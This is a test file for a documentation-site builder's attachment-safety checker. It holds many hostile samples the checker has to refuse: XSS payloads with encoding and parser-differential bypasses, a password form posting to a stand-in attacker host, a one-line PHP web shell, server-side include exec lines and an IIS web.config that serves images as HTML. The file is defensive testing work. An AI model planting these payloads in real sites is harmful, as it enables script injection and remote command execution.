/** SVG, HTML and XML attachments with script are refused: the verdict, lint at the link, and the rendering. */
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { attachmentVerdict } from "../../src/core/site/attachment-safety.ts";
import { loadProject } from "../../src/core/project/project.ts";
import { prepareSites } from "../../src/build/site-data.ts";
import { flatMessages, lintJson, makeProject, removeTemps } from "../helpers.ts";

afterAll(removeTemps);

const bytes = (text: string) => new TextEncoder().encode(text);
const verdict = (name: string, text: string) => attachmentVerdict(name, bytes(text));

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const UNSAFE: Record<string, [string, string]> = {
  // No script, but other hosts loaded (or posted to) from the site's origin, where a host sends no policy header.
  "html remote stylesheet": ["promo.shtml", '<!doctype html><link rel=stylesheet href=https://evil.test/attach.css><p>Offer</p>'],
  "html remote image": ["promo.shtml", '<!doctype html><p>Offer <img src="//evil.test/pixel.png" alt=""></p>'],
  "html remote srcset": ["promo.html", '<!doctype html><img src="a.png" srcset="a.png 1x, https://evil.test/b.png 2x" alt="">'],
  "html style background": ["promo.shtml", "<!doctype html><style>body{background:url(https://evil.test/bg.png)}</style><p>Offer</p>"],
  "html style attribute url": ["promo.html", '<!doctype html><p style="background: URL( \'//evil.test/bg.png\' )">Offer</p>'],
  "html style @import": ["promo.html", '<!doctype html><style>@import "theme.css";</style><p>Offer</p>'],
  "html form": ["promo.shtml", '<!doctype html><form action="https://evil.test/steal" method="post"><input type="password" name="p"></form>'],
  "html form to the site itself": ["promo.html", '<!doctype html><form><input type="password" name="p"></form>'],
  "html ping": ["promo.html", '<!doctype html><a href="/x" ping="https://evil.test/track">x</a>'],
  "xhtml remote stylesheet": ["promo.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><head><link rel="stylesheet" href="https://evil.test/x.css"/></head><body><p>Offer</p></body></html>'],
  "svg remote image": ["d.svg", `<svg ${SVG}><image href="https://evil.test/svg-image.png" width="1" height="1"/></svg>`],
  "svg remote xlink image": ["d.svg", `<svg ${SVG}><image xlink:href="https:evil.test/svg-image.png" width="1" height="1"/></svg>`],
  "svg remote use": ["d.svg", `<svg ${SVG}><use href="https://evil.test/sprite.svg#a"/></svg>`],
  "svg style @import": ["d.svg", `<svg ${SVG}><style>@import url(https://evil.test/svg-import.css);</style></svg>`],
  "svg style with an escaped url": ["d.svg", `<svg ${SVG}><style>rect { fill: u\\rl(https://evil.test/p.png) }</style></svg>`],
  "xml xhtml image": ["data.xml", '<data xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="https://evil.test/xml-img.png"/></data>'],
  "xml xhtml form": ["data.xml", '<data xmlns:h="http://www.w3.org/1999/xhtml"><h:form action="/x"><h:input name="p"/></h:form></data>'],
  "svg script": ["a.svg", `<svg ${SVG}><script>alert(1)</script></svg>`],
  "svg script with a prefix": ["a.svg", `<svg ${SVG} xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>`],
  "svg CDATA script": ["a.svg", `<svg ${SVG}><script><![CDATA[alert(1)]]></script></svg>`],
  "svg onload": ["a.svg", `<svg ${SVG} onload="alert(1)"/>`],
  "svg ONLOAD upper case": ["a.svg", `<svg ${SVG} ONLOAD="alert(1)"/>`],
  "svg a xlink:href javascript": ["a.svg", `<svg ${SVG}><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`],
  "svg href with entity-encoded javascript": ["a.svg", `<svg ${SVG}><a href="&#106;avascript:alert(1)"><text>x</text></a></svg>`],
  "svg href with a tab": ["a.svg", `<svg ${SVG}><a href="java&#9;script:alert(1)"><text>x</text></a></svg>`],
  "svg foreignObject": ["a.svg", `<svg ${SVG}><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject></svg>`],
  "svg use data": ["a.svg", `<svg ${SVG}><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>`],
  "svg set onclick": ["a.svg", `<svg ${SVG}><set attributeName="onmouseover" to="alert(1)"/></svg>`],
  "svg animate href": ["a.svg", `<svg ${SVG}><a><animate attributeName="href" values="x;javascript:alert(1)"/><text>x</text></a></svg>`],
  "svg entity declaration": ["a.svg", `<!DOCTYPE svg [<!ENTITY js "javascript:alert(1)">]><svg ${SVG}><a href="&js;"><text>x</text></a></svg>`],
  "svg xml-stylesheet": ["a.svg", `<?xml-stylesheet type="text/xsl" href="x.xsl"?><svg ${SVG}/>`],
  "svg iframe": ["a.svg", `<svg ${SVG}><iframe xmlns="http://www.w3.org/1999/xhtml" src="x"/></svg>`],
  "not well-formed svg": ["a.svg", `<svg ${SVG}><script>alert(1)</svg>`],
  "xhtml script": ["a.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>'],
  "xml with xhtml script": ["a.xml", '<root><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></root>'],
  // mime-db and Go type a name by its last extension only and sniff one they do not know: the .txt before it does not count.
  "html under a name whose last extension no table knows": ["notes.txt.draft", "<!doctype html><p>Hi</p><script>alert(1)</script>"],
  "svg under a name whose last extension no table knows": ["chart.png.v2", `<svg ${SVG} onload="alert(1)"/>`],
  // Types Debian's MIME table (Apache's and Go's file server's) does not list: those servers sniff the content.
  "html in an .ini file": ["settings.ini", "<!doctype html><p>Hi</p><script>alert(1)</script>"],
  "html in a .jsx file": ["button.jsx", "<script>alert(1)</script>"],
  "html in a .db file": ["cache.db", "<html><body onload=alert(1)>"],
  "html in a .log file": ["server.log", "<!doctype html><p>Hi</p><script>alert(1)</script>"],
  "html in a .yaml file": ["config.yaml", "<script>alert(1)</script>\nkey: value"],
  "html in a .toml file": ["app.toml", "<img src=x onerror=alert(1)>"],
  // Apache skips a last extension its table lacks and types the file by the one before it.
  "html under a last extension Debian's table lacks": ["saved.html.yml", "<p>saved</p><script>alert(1)</script>"],
  // Both tables serve .rs as application/rls-services+xml.
  "xml with xhtml script in an .rs file": ["client.rs", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'],
  // Chromium's sniffer skips a vertical tab as white space before it looks for a tag.
  // IIS applies a web.config in any folder of the site: this one serves the card's .png files as HTML, without the policy header.
  "an IIS web.config": ["web.config", '<?xml version="1.0"?><configuration><system.webServer><staticContent><remove fileExtension=".png"/><mimeMap fileExtension=".png" mimeType="text/html"/></staticContent></system.webServer></configuration>'],
  "an IIS web.config that does not start with markup": ["Web.Config", "\n\n<configuration/>"],
  // A server that runs PHP, ASP.NET, JSP or CGI would run these instead of serving them; some run any name with .php in it.
  "php program": ["tool.php", "<?php system($_GET['c']); ?>"],
  "php program under a second extension": ["shot.php.png", "<?php system($_GET['c']); ?>"],
  "phar archive": ["Tool.PHAR", "binary"],
  "asp.net handler": ["upload.ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>"],
  "jsp page": ["page.jsp", "<% out.println(1); %>"],
  "cgi program": ["run.cgi", "#!/bin/sh\necho hi"],
  // Apache (Debian) runs server-side includes in .shtml: the included file is never checked as part of the page.
  "shtml server-side include": ["promo.shtml", '<!doctype html><p>Offer</p><!--#include virtual="payload.txt" -->'],
  "html server-side exec": ["promo.html", '<!doctype html><p>Offer</p><!--#exec cmd="cat payload.txt" -->'],
  "html after a vertical tab in a file of unknown type": ["settings.ini", "\u000b<!doctype html><script>alert(1)</script>"],
  "html script": ["a.html", "<!doctype html><p>Hi</p><script>alert(1)</script>"],
  "html img onerror": ["a.htm", "<img src=x onerror=alert(1)>"],
  "html inline svg script": ["a.html", "<svg><script>alert(1)</script></svg>"],
  "html javascript link": ["a.html", '<a href=" JavaScript:alert(1)">x</a>'],
  "html iframe srcdoc": ["a.html", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  "html meta refresh": ["a.html", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  "html object": ["a.html", '<object data="x.swf"></object>'],
  "html template script": ["a.html", "<template><script>alert(1)</script></template>"],
  "html data url": ["a.html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  "compressed svg": ["a.svgz", "\u001f\u008b"],
  "not utf-8": ["a.svg", "\u0000"],
  // Extensions common MIME tables serve as application/xml or XHTML (mime-db behind serve-static:
  // .xsd, .rng; Debian's mime.types behind Apache: .xhtm; Python's mimetypes: .rdf, .wsdl, .xpdl).
  "xsd with xhtml script": ["a.xsd", '<schema><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></schema>'],
  "rng with xhtml script": ["a.rng", '<grammar><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></grammar>'],
  "xhtm script": ["a.xhtm", '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>'],
  "rdf with xhtml script": ["a.rdf", '<rdf><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></rdf>'],
  "wsdl with xhtml script": ["a.wsdl", '<definitions><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></definitions>'],
  // Any "+xml" type opens as an XML document in Chromium, and mime-db (serve-static) has dozens of them.
  "kml with xhtml script": ["map.kml", '<kml xmlns="http://www.opengis.net/kml/2.2"><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></kml>'],
  "gpx with svg onload": ["track.gpx", `<gpx><svg ${SVG} onload="alert(1)"/></gpx>`],
  "xul with xhtml script": ["a.xul", '<window><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></window>'],
  "ttml with entity declaration": ["a.ttml", '<!DOCTYPE tt [<!ENTITY a "java"><!ENTITY b "script:">]><tt><x:a xmlns:x="http://www.w3.org/1999/xhtml" href="&a;&b;alert(1)">x</x:a></tt>'],
  // A name no MIME table knows: Go's file server (Caddy, Hugo) sniffs the content, so HTML is served as text/html.
  "html in a file of unknown type": ["notes.data1", "<html><body><script>alert(1)</script></body></html>"],
  "html in a file without extension": ["README", "  <!doctype html><img src=x onerror=alert(1)>"],
  // Apache ignores an unknown last extension and types the file by the one before it.
  "html under an unknown last extension": ["page.html.bak1", "<p>x</p><script>alert(1)</script>"],
  "svg under an unknown last extension": ["pic.svg.v2", `<svg ${SVG} onload="alert(1)"/>`],
  "utf-16 markup of unknown type": ["a.data1", "\uFEFF<script>"],
  // The sites' CSP runs any script file of the site itself (script-src 'self'): a card's script file would run with its rights.
  "script file": ["a.js", "window.__xss = 1"],
  "module script file": ["a.mjs", "window.__xss = 1"],
  // Read as UTF-8 here, but the browser honours the declared encoding: ISO-2022-JP drops ESC ( B, so o\x1b(Bnerror is onerror.
  "html declaring another encoding": ["a.html", '<meta charset="iso-2022-jp"><img src=x o\u001b(Bnerror=alert(1)>'],
  "svg declaring another encoding": ["a.svg", `<?xml version="1.0" encoding="ISO-2022-JP"?><svg ${SVG}><a href="java\u001b(Bscript:alert(1)"><text>x</text></a></svg>`],
  "xml declaring another encoding": ["a.xml", "<?xml version='1.0' encoding='Shift_JIS'?><root/>"],
  "html with a control character": ["a.html", "<p>a\u001b(Bb</p>"],
  // The browser parses <noscript> content as text (script is on), the checker's parser as markup.
  "html noscript hiding a handler in an attribute": ["a.html", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  "html noscript in head": ["a.html", "<head><noscript><style></noscript><img src=x onerror=alert(1)></style></noscript></head>"],
  "html noscript in a table": ["a.html", '<table><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript></table>'],
  // Chromium reads this CDATA section as text of <title>, the checker's parser as a comment: a handler anywhere in the text is refused.
  "html svg title CDATA": ["a.html", "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></title></svg>"],
  "html script tag inside a comment-like section": ["a.html", "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></desc></svg>"],
};

describe("attachmentVerdict", () => {
  for (const [name, [file, text]] of Object.entries(UNSAFE)) {
    it(`refuses ${name}`, () => {
      const result =
        name === "not utf-8"
          ? attachmentVerdict(file, new Uint8Array([0x3c, 0xff, 0xfe]))
          : name.startsWith("utf-16")
            ? attachmentVerdict(file, new Uint8Array([0xff, 0xfe, ...[...text.slice(1)].flatMap((c) => [c.charCodeAt(0), 0])]))
            : verdict(file, text);
      expect(result.safe).toBe(false);
    });
  }

  it("judges a megabyte of text made to make its patterns backtrack without hanging (quadratic work would take hours)", () => {
    for (const text of ["<" + " ".repeat(1_000_000) + "x", "</" + " ".repeat(1_000_000), "<a" + " onx".repeat(250_000), "<a".repeat(500_000)]) {
      const started = performance.now();
      verdict("a.html", text);
      expect(performance.now() - started).toBeLessThan(10_000);
    }
  });

  it("accepts plain SVG, HTML and XML, and every other file type", () => {
    expect(verdict("a.svg", `<?xml version="1.0"?><svg ${SVG} viewBox="0 0 10 10"><title>Chart</title><a href="https://acme.test"><rect width="10" height="10" fill="url(#g)"/></a><image href="data:image/png;base64,iVBORw0KGgo="/></svg>`).safe).toBe(true);
    expect(verdict("a.html", '<!doctype html><meta charset="utf-8"><title>T</title><p>Hi <a href="https://acme.test">link</a></p>').safe).toBe(true);
    expect(verdict("a.xml", "<feed><entry>metadata: fine</entry></feed>").safe).toBe(true);
    expect(verdict("a.png", "<script>alert(1)</script>").safe).toBe(true);
    expect(verdict("a.txt", "<svg onload=alert(1)>").safe).toBe(true);
    expect(verdict("a.xsd", '<?xml version="1.0" encoding="UTF-8"?><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="onboarding"/></xs:schema>').safe).toBe(true);
    expect(verdict("a.html", '<!doctype html><meta charset="UTF-8"><p>Turn it on = done, one=1</p>').safe).toBe(true);
    expect(verdict("a.css", "body { color: red }").safe).toBe(true);
    expect(verdict("map.kml", '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><description><![CDATA[<b>Office</b>]]></description></Placemark></kml>').safe).toBe(true);
    expect(verdict("notes.data1", "plain notes <not markup>").safe).toBe(true);
    expect(verdict("LICENSE", "MIT License\n").safe).toBe(true);
    expect(verdict("config.yaml", "key: <value>\n").safe).toBe(true);
    expect(verdict("server.log", "12:00 GET /x <- 200\n").safe).toBe(true);
    expect(attachmentVerdict("photo.raw1", new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0xff, 0x3c])).safe).toBe(true);
    expect(verdict("diagram.svg.png", `<svg ${SVG} onload="alert(1)"/>`).safe).toBe(true);
    expect(verdict("page.html.txt", "<script>alert(1)</script>").safe).toBe(true);
    expect(verdict("php-tips.txt", "<?php echo 1; ?>").safe).toBe(true);
    expect(verdict("notes.txt.draft", "Call notes: <not markup>").safe).toBe(true);
    // Links a reader follows, local references and inline raster images stay. (Text that reads like a
    // remote url(...) anywhere in the file is refused, as script-like text is: a reading may take it as style.)
    expect(verdict("a.svg", `<svg ${SVG}><a xlink:href="https://acme.test/x"><use href="#shape"/></a><image href="data:image/png;base64,iVBORw0KGgo="/><style>rect { fill: url(#g) }</style></svg>`).safe).toBe(true);
    expect(verdict("a.html", '<!doctype html><link rel="stylesheet" href="style.css"><p style="background:url(bg.png)">Hi <a href="https://acme.test">link</a> <img src="a.png" alt="mailto:x@y.z"></p>').safe).toBe(true);
  });
});

const card = (audience: string, body: string) => `---\ntitle: A card\nowner: "@acme/team"\naudience: ${audience}\nverify_by: 2099-01-01\n---\n\n${body}\n`;
const EVIL_SVG = `<svg ${SVG} onload="window.__xss=1"><rect width="1" height="1"/></svg>`;
const FINE_SVG = `<svg ${SVG}><rect width="1" height="1"/></svg>`;

/** Lint of the project in `dir`, and its attachment-unsafe findings. */
async function unsafeAttachments(dir: string) {
  const result = await lintJson(dir, ["--today", "2026-11-22"]);
  return { result, hits: flatMessages(result.results, dir).filter((m) => m.ruleId === "attachment-unsafe") };
}

/** Both sites' data for the project in `dir`, as the build prepares them. */
function sitesOf(dir: string) {
  const project = loadProject({ cwd: dir, root: dir, today: "2030-01-01" });
  return prepareSites(project, ["public", "internal"], { history: { available: false, reason: "test" } });
}

describe("attachment-unsafe", () => {
  it("is a lint error at the line of the link (Markdown or raw HTML), naming the file and how to fix it", async () => {
    const dir = makeProject({
      "content/help/diagram.svg": EVIL_SVG,
      "content/help/fine.svg": FINE_SVG,
      "content/help/page.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>',
      "content/help/a.md": card("external", "Intro\n\n![Diagram](diagram.svg)\n\n![Fine](fine.svg)\n\n<a href=\"page.xhtml\">page</a>\n"),
    });
    const { result, hits } = await unsafeAttachments(dir);
    expect(hits.map((m) => [m.file, m.line])).toEqual([
      ["content/help/a.md", 10],
      ["content/help/a.md", 14],
    ]);
    expect(hits[0]!.message).toMatch(/diagram\.svg is not published: it has an event handler \(onload\).*Remove/);
    expect(result.code).toBe(1);
  });

  it("covers every name a server serves as a document, and script files, with the fix for each", async () => {
    const dir = makeProject({
      "content/help/map.xsd": '<schema><x:script xmlns:x="http://www.w3.org/1999/xhtml" src="run.js"/></schema>',
      "content/help/run.js": "window.__xss = 1",
      "content/help/a.md": card("external", "[schema](map.xsd) and [helper](run.js)"),
    });
    const { result, hits } = await unsafeAttachments(dir);
    expect(hits.map((m) => [m.file, m.line, m.column])).toEqual([
      ["content/help/a.md", 8, 1],
      ["content/help/a.md", 8, 23],
    ]);
    expect(hits[0]!.message).toMatch(/map\.xsd is not published: it contains a <script> element/);
    expect(hits[1]!.message).toMatch(/run\.js is not published: it is a script file \(\.js\).*Content-Security-Policy.*Put the code in the card as a code block, or attach it in a \.zip file\./);
    const sites = sitesOf(dir);
    for (const site of sites.values()) expect(site.assets).toEqual([]);
  });

  it("checks a file of a type it does not list (a host may serve .kml as an XML document) and never copies it with script", async () => {
    const dir = makeProject({
      "content/help/office.kml": '<kml><x:script xmlns:x="http://www.w3.org/1999/xhtml">window.__xss = 1</x:script></kml>',
      "content/help/route.kml": '<?xml version="1.0"?><kml><Placemark><name>Office</name></Placemark></kml>',
      "content/help/a.md": card("external", "[office](office.kml) and [route](route.kml)"),
    });
    const { result, hits } = await unsafeAttachments(dir);
    expect(hits.map((m) => [m.file, m.line, m.column])).toEqual([["content/help/a.md", 8, 1]]);
    expect(hits[0]!.message).toMatch(/office\.kml is not published: it contains a <script> element/);
    const sites = sitesOf(dir);
    for (const site of sites.values()) expect(site.assets.map((a) => path.basename(a.file))).toEqual(["route.kml"]);
  });

  it("is never copied to a site, and the link loses its target", () => {
    const root = makeProject({
      "verity.config.yml": "rules:\n  attachment-unsafe: off\n",
      "content/help/diagram.svg": EVIL_SVG,
      "content/help/fine.svg": FINE_SVG,
      "content/help/a.md": card("external", "![Diagram](diagram.svg) ![Fine](fine.svg) [raw](diagram.svg)"),
    });
    const sites = sitesOf(root);
    for (const site of sites.values()) {
      expect(site.assets.map((a) => path.basename(a.file))).toEqual(["fine.svg"]);
      expect(site.cards[0]!.html).not.toContain("diagram.svg");
    }
  });
});
